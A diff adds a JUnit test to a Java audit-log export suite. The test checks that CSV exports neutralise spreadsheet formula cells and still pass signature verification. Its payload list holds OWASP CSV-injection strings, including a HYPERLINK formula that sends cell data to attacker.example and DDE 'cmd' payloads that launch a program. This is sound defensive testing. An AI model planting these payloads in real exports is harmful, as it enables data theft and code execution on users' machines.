@@ -2,6 +2,9 @@ package io.warden.audit.internal;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import io.warden.audit.AuditActor;
+import io.warden.audit.AuditEvent;
+import io.warden.audit.AuditTarget;
 import io.warden.audit.ExportFormat;
 import io.warden.audit.ExportVerifier;
 import io.warden.audit.Verification;
@@ -12,6 +15,7 @@ import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.security.PublicKey;
+import java.util.List;
 import java.util.Map;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeEach;
@@ -129,6 +133,46 @@ class ExportTests {
         assertThat(event.get("agent").get(0).get("requestor").asBoolean()).isTrue();
         assertThat(event.get("source").get("type").get(0).get("code").asString()).isEqualTo("4");
         assertThat(event.get("entity")).hasSize(2);
+    }
+
+    /** OWASP's CSV-injection payloads, as an agent can send them in a refused call's dataset and purpose. */
+    static final List<String> FORMULAS = List.of("=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")", "+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=already quoted");
+
+    @Test
+    void formulaCellsComeOutInertAndTheExportStillVerifiesAsDoOlderExports() throws Exception {
+        for (String formula : FORMULAS) {
+            log.append(AuditEvent.builder("gateway.decision", AuditActor.agent(formula, null), new AuditTarget("tool", "text-search"))
+                    .agent(formula).dataset(formula).purposeOfUse(formula).tool("text-search").decision("DENY")
+                    .reason("INVALID_REQUEST").outcome(io.warden.audit.Outcome.MINOR_FAILURE).build());
+        }
+        String csv = export(ExportFormat.CSV, 1, 25 + FORMULAS.size());
+        for (String formula : FORMULAS) {
+            String quoted = formula.contains(",") || formula.contains("\"") || formula.contains("\r") ? "\"" : "";
+            String raw = quoted + formula.replace("\"", "\"\"");
+            String inert = quoted + "'" + formula.replace("\"", "\"\"");
+            assertThat(csv).as(formula).contains("," + inert).doesNotContain("," + raw + ",");
+        }
+        for (String line : csv.split("\r\n")) {
+            for (String cell : line.split(",", -1)) {
+                String value = cell.startsWith("\"") ? cell.substring(1) : cell;
+                assertThat(value).as("a cell of: %s", line).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("@")
+                        .doesNotStartWith("\t").doesNotStartWith("\r");
+            }
+        }
+        Verification result = ExportVerifier.verify(new StringReader(csv), trusted());
+        assertThat(result.valid()).as("%s", result).isTrue();
+        assertThat(result.eventsChecked()).isEqualTo(25 + FORMULAS.size());
+
+        // as an export made before formula cells were defused: the same cells without the leading quote
+        String older = csv;
+        for (String formula : FORMULAS) {
+            String escaped = formula.replace("\"", "\"\"");
+            older = older.replace("'" + escaped, escaped);
+        }
+        assertThat(older).isNotEqualTo(csv);
+        Verification olderResult = ExportVerifier.verify(new StringReader(older), trusted());
+        assertThat(olderResult.valid()).as("%s", olderResult).isTrue();
     }
 
     @Test
